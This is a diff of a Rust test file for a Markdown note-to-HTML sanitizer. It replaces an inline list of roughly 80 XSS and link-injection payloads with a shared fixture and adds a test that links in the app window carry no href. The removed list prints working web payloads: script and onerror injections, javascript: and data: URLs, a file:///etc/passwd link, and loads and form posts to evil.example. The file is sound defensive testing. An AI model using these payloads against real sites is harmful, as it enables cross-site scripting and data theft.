@@ -1,7 +1,9 @@
 //! Notes are typed by hand and pasted from anywhere: whatever they hold, the HTML holds only what is on the list.
 
 use proptest::prelude::*;
-use vermilion_formats::note::note_html;
+use vermilion_formats::note::{note_html, note_html_for_window};
+use vermilion_tests::fixtures::injections;
+use vermilion_tests::invariants::html::{Token, tokens};
 use vermilion_tests::invariants::note;
 
 #[test]
@@ -53,93 +55,12 @@ fn a_note_is_rendered_as_markdown() {
     }
 }
 
-/// Ways into a page that have worked somewhere.
-const VECTORS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=\"x\" onerror=\"alert(1)\"",
-    "<svg onload=alert(1)>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<math><mtext></p><img src onerror=alert(1)></mtext></math>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
-    "<embed src=//evil.example/x.swf>",
-    "<style>*{background:url(//evil.example)}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
-    "<base href=\"//evil.example/\">",
-    "<form action=//evil.example><input name=a><button>go</button></form>",
-    "<video><source onerror=alert(1)></video>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<body onload=alert(1)>",
-    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
-    "<!-- unclosed",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo '<script>'; ?>",
-    "<!DOCTYPE html><script>1</script>",
-    "</p></div></main><script>alert(1)</script>",
-    "</aside><style>body{display:none}</style>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<textarea><script>alert(1)</script>",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&#x0A;script:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
-    "[x](<javascript:alert(1)>)",
-    "[x](&#1;javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](file:///etc/passwd)",
-    "[x](//evil.example)",
-    "[x](\\\\evil.example\\share)",
-    "[x](tauri://localhost)",
-    "[x](asset://localhost/etc/passwd)",
-    "[x](https:javascript:alert(1))",
-    "[x](https://example.org/\"onmouseover=\"alert(1))",
-    "[x](https://example.org/'onmouseover='alert(1))",
-    "[x](<https://example.org/ onmouseover=alert(1)>)",
-    "[x](https://example.org \"\\\" onmouseover=alert(1) \")",
-    "[x][r]\n\n[r]: javascript:alert(1)",
-    "[r]\n\n[r]: <data:text/html,x> '<script>'",
-    "<javascript:alert(1)>",
-    "<https://example.org/<script>>",
-    "<mailto:a@b.example?subject=\"><script>alert(1)</script>>",
-    "![x](javascript:alert(1))",
-    "![<img src=x onerror=alert(1)>](https://example.org/a.png)",
-    "![a [b](javascript:alert(1)) c](https://example.org/a.png \"<x>\")",
-    "[![x](https://evil.example/t.gif)](javascript:alert(1))",
-    "[a [b](https://example.org) c](https://example.org)",
-    "`<script>alert(1)</script>`",
-    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
-    "    </code></pre><script>alert(1)</script>",
-    "# <script>alert(1)</script> {#x onclick=alert(1)}",
-    "## x {.a onclick=\"alert(1)\"}",
-    "> <script>alert(1)</script>",
-    "- <img src=x onerror=alert(1)>",
-    "99999999999999999999. <b>x</b>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
-    "<scr\0ipt>alert(1)</scr\0ipt>",
-    "a\0b [x](https://example.org/\0)",
-    "[^1]\n\n[^1]: <script>alert(1)</script>",
-    "| <script>alert(1)</script> |\n|---|\n| x |",
-    "- [ ] <script>alert(1)</script>",
-    "$$<script>alert(1)</script>$$",
-    "+++\ntitle = \"<script>\"\n+++\n---\na: <script>\n---",
-    "**<b>*</b>**_<i>_",
-    "[x](https://example.org/\u{202e}gpj.exe)",
-];
-
 #[test]
 fn nothing_outside_the_list_comes_through() {
-    for vector in VECTORS {
-        for note in [(*vector).to_owned(), format!("前 {vector} 後"), format!("- 一\n\n  > {vector}\n\n**二")]
-        {
+    let vectors = injections("canary.invalid");
+    assert!(vectors.len() >= 250);
+    for (_, vector) in vectors {
+        for note in [vector.clone(), format!("前 {vector} 後"), format!("- 一\n\n  > {vector}\n\n**二")] {
             note::check(&note);
         }
     }
@@ -150,11 +71,31 @@ fn an_unsafe_link_keeps_its_text_and_loses_its_destination() {
     assert_eq!(note_html("[按](javascript:alert(1))"), "<p>按</p>\n");
 }
 
+#[test]
+fn in_the_window_a_link_leads_nowhere_by_itself() {
+    assert_eq!(
+        note_html_for_window("[書](https://example.org/?a=1&b=2) <a@example.org>"),
+        "<p><a data-href=\"https://example.org/?a=1&amp;b=2\" role=\"link\" tabindex=\"0\">書</a> \
+         <a data-href=\"mailto:a@example.org\" role=\"link\" tabindex=\"0\">a@example.org</a></p>\n"
+    );
+    for (name, vector) in injections("canary.invalid") {
+        let (window, file) = (note_html_for_window(&vector), note_html(&vector));
+        let back = window.replace("<a data-href=", "<a href=");
+        assert_eq!(
+            back.replace("role=\"link\" tabindex=\"0\"", "rel=\"noopener noreferrer\""),
+            file,
+            "{name}"
+        );
+        let leads = |token: &Token| matches!(token, Token::Open { attributes, .. } if attributes.contains_key("href"));
+        assert!(!tokens(&window).iter().any(leads), "{name}");
+    }
+}
+
 proptest! {
     #[test]
     fn any_note_is_rendered_from_the_list_alone(
         pieces in proptest::collection::vec(
-            prop_oneof![proptest::sample::select(VECTORS.to_vec()).prop_map(str::to_owned), "[\\PC\n]{0,20}"],
+            prop_oneof![proptest::sample::select(injections("canary.invalid")).prop_map(|(_, vector)| vector), "[\\PC\n]{0,20}"],
             0..6,
         ),
     ) {
